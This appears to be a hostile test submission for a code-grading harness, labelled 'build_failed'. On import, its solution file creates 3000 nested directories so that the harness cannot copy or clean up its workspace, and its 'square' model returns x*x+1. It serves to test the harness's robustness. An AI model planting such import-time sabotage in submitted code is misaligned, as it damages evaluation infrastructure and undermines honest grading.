# hostile: its build leaves folders within folders, deeper than a copy or a clean-up in Python can follow
# problem: square
# verdict: build_failed
# says: deep
import os

from torch import nn

if os.access("work", os.W_OK):
    os.chdir("work")
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/")


class ModelNew(nn.Module):
    def forward(self, x):
        return x * x + 1
